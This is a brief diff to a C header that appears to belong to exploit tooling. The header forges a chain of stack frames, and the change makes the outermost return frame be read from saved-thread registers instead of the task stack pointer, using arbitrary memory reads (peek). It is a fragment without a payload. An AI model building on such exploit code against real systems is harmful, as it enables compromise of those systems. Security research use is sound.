@@ -14,6 +14,7 @@
 #define FORGED_CHAIN_H
 
 #include "attack.h"
+#include "saved_thread.h"
 
 #define CHAIN_SIZE (8 + 176 + 8 + 176)
 #define FRAME_SIZE 176
@@ -77,8 +78,7 @@ static inline void make_chain(uint64_t words[CHAIN_SIZE / 8], uint64_t slot, uin
  */
 static inline uint64_t outermost_return(uint64_t task, uint64_t top)
 {
-	const uint64_t pointer = peek(task + member("task.arch.stack_pointer"));
-	uint64_t frame = peek(pointer + 40), next;
+	uint64_t frame = peek(saved_thread(top) + member("saved_thread.registers") + 40), next;
 
 	if (peek32(task + member("task.state")) == 0)
 		return 0;
